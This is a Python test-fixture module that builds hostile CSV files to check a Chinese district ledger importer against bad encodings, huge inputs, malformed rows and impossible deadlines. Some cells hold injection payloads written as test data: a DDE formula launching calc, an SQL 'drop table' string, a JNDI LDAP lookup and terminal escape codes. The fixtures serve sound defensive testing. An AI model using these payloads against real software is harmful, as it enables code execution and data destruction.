"""Hostile text files: encodings, quotes, sizes and characters of .csv."""

from functools import partial

from tests.workbook.makers.hostile.hostile_containers import Named
from tests.workbook.makers.hostile.hostile_parts import HEADINGS, ISSUES, LEDGER, TITLE, csv_bytes, write_file

_TEXT = csv_bytes().decode()
_ROW = "H-9,松涧镇,{},区水利局,2026年6月30日前,整改中\r\n"


def texts() -> Named:
    """Yield text files that are refused, hold bad rows, or are read after all."""
    bad_word = "字".encode() + b"\xed\xa0\x80" + "字".encode()
    refused = {
        "UTF-16 without its mark": _TEXT.encode("utf-16-le"),
        "UTF-16 big-endian without its mark": _TEXT.encode("utf-16-be"),
        "UTF-16 cut in a character": b"\xff\xfe" + _TEXT.encode("utf-16-le")[:-3],
        "UTF-16 with a lone surrogate": b"\xff\xfe" + _TEXT.encode("utf-16-le") + b"\x00\xd8\x41\x00",
        "UTF-32": _TEXT.encode("utf-32"),
        "UTF-7": _TEXT.encode("utf-7"),
        "Big5 named as our own": "問題編號,問題描述\r\n1,棄渣\r\n".encode("big5"),
        "surrogates in UTF-8": _TEXT.encode() + _ROW.encode().replace(b"{}", bad_word),
        "CESU-8": _TEXT.encode() + _ROW.encode().replace(b"{}", b"\xed\xa1\x82\xed\xbe\xb7"),
        "UTF-8, then GB18030": _TEXT.encode() + _ROW.format("弃渣未清理").encode("gb18030"),
        "GB18030, then UTF-8": _TEXT.encode("gb18030") + _ROW.format("弃渣未清理").encode(),
        "NUL in a cell": _TEXT.encode() + _ROW.format("弃渣\0未清理").encode(),
        "mark alone": b"\xef\xbb\xbf",
        "mark of UTF-16 alone": b"\xff\xfe",
        "line breaks alone": b"\r\n" * 500,
        "headings alone": ",".join(HEADINGS).encode(),
        "title alone": TITLE.encode(),
        "prose": "这是一封信，不是台账。\n请查收，谢谢。\n".encode(),
        "separators alone": b",,,,\n" * 1000,
        "one line of 8 MB": b"a" * (8 << 20),
        "one line of 4 million separators": b"," * (4 << 20),
        "one quote, then 4 MB": _TEXT.encode() + b'"' + b"x,y\n" * (1 << 20),
        "JSON": b'[{"number": "1", "description": "x"}]',
    }  # fmt: skip
    for name, data in refused.items():
        yield f"csv: {name}", partial(write_file, name="区级台账.csv", data=data), _expected(name)
    yield from _odd_cells()
    yield from _sizes()


def _expected(name: str) -> str:
    return {"headings alone": "fine", "one quote, then 4 MB": "refused"}.get(name, "refused")


def _odd_cells() -> Named:
    cells = {
        "unbalanced quote at the end": ('"弃渣未清理', "refused"),
        "quotes within": ('弃"渣"未清理', "fine"),
        "formula": ("=cmd|'/C calc'!A0", "fine"),
        "formula by a sign": ("+1+1", "fine"),
        "formula by an at": ("@SUM(A1:A9)", "fine"),
        "formula by a dash": ("-2+3+cmd|' /C calc'!A0", "fine"),
        "escape codes": ("弃渣\x1b[2J\x1b]52;c;eA==\x07", "bad rows"),
        "backspaces": ("弃渣\b\b\b整改", "bad rows"),
        "form feed": ("弃渣\f整改", "bad rows"),
        "delete": ("弃渣\x7f", "bad rows"),
        "C1 control": ("弃渣\x9b31m", "bad rows"),
        "vertical tab": ("弃渣\v整改", "bad rows"),
        "line separator": ("弃渣\u2028整改", "fine"),
        "bidirectional override": ("弃渣\u202e整改", "fine"),
        "noncharacter": ("弃渣\uffff", "bad rows"),
        "tags plane": ("弃渣\U000e0041", "fine"),
        "private use": ("弃渣\ue000", "fine"),
        "300 combining marks": ("e" + "\u0301" * 300, "fine"),
        "32,768 characters": ("字" * 32_768, "bad rows"),
        "400,000 characters": ("字" * 400_000, "refused"),
        "markup of Rich": ("[red]弃渣[/b][link=http://x]", "fine"),
        "SQL": ("'); drop table issue; --", "fine"),
        "format specifiers": ("%s%n{0.__class__}${jndi:ldap://x}", "fine"),
    }  # fmt: skip
    for name, (cell, expected) in cells.items():
        row = _ROW.format(cell)
        data = (_TEXT + row).encode()
        yield f"csv: {name} in a cell", partial(write_file, name="区级台账.csv", data=data), expected


def _sizes() -> Named:
    ditto = [("H-1", "松涧镇", "弃渣未清理", "区水利局", "2026年6月底", "整改中")]
    ditto += [(f"D-{at}", "同上", "同上", "〃", "同上", "同上") for at in range(2_000)]
    broken = [(f"D-{at}", "同上", f"弃渣{at}", "〃", "同上", "同上") for at in range(300)]
    wide = [(TITLE,), [*HEADINGS, *[f"指标{at:05}" for at in range(17_000)]], *ISSUES]
    twice = [(TITLE,), [*HEADINGS, *["问题描述"] * 5_000], *ISSUES]
    bad = ("H-7", "松涧镇", "期限写错的问题", "区水利局", "2026年2月30日", "整改中")
    same = [(TITLE,), HEADINGS, *[("H-1", *ISSUES[0][1:])] * 5_000]
    clash = [(TITLE,), HEADINGS, *[("H-1", "松涧镇", f"弃渣{at}", *ISSUES[0][3:]) for at in range(500)]]
    cases = {
        "同上 2,000 deep": ([(TITLE,), HEADINGS, *ditto], "fine"),
        "同上 with nothing above": ([(TITLE,), HEADINGS, *broken], "bad rows"),
        "17,000 columns": (wide, "fine"),
        "17,000 columns and a bad row": ([*wide, bad], "bad rows"),
        "5,000 headings of one name": (twice, "fine"),
        "one issue 5,000 times": (same, "fine"),
        "one number, 500 contents": (clash, "bad rows"),
        "rows of every length": ([*LEDGER, *[ISSUES[0][:at] for at in range(7)]], "bad rows"),
        "rows wider than the headings": ([*LEDGER, [*bad[:4], "立行立改", "整改中", *["多"] * 500]], "fine"),
    }
    for name, (rows, expected) in cases.items():
        yield f"csv: {name}", partial(write_file, name="区级台账.csv", data=csv_bytes(rows)), expected


def phrases() -> Named:
    """Write deadlines and days outside the range of dates and numbers."""
    headings = (*HEADINGS, "交办时间")
    deadlines = {
        "99999999999 days": ("自交办之日起99999999999日内", "2026年4月1日"),
        "9999999 working days": ("自交办之日起9999999个工作日内", "2026年4月1日"),
        "30 days from the last day": ("自交办之日起30日内", "9999-12-31"),
        "15 working days from the last day": ("15个工作日内", "9999-12-31"),
        "as many Chinese days": (f"自交办之日起{'九' * 300}日内", "2026年4月1日"),
        "the year 0": ("0000年6月底", "2026年4月1日"),
        "the year 99999": ("99999年6月底", "2026年4月1日"),
        "the first day": ("0001-01-01", "0001-01-01"),
        "the 5th quarter": ("2026年第五季度", "2026年4月1日"),
        "the 99th month": ("2026年99月底前", "2026年4月1日"),
        "500 digits": ("2" * 500, "2026年4月1日"),
        "a superscript": ("2026年6月3²日", "2026年4月1日"),
        "Arabic digits": ("٢٠٢٦年٦月٣٠日", "2026年4月1日"),
    }
    for name, (deadline, handed_over) in deadlines.items():
        row = ("H-9", "松涧镇", "弃渣未清理", "区水利局", deadline, "整改中", handed_over)
        data = csv_bytes([(TITLE,), headings, row])
        yield f"deadline: {name}", partial(write_file, name="区级台账.csv", data=data), "bad rows"
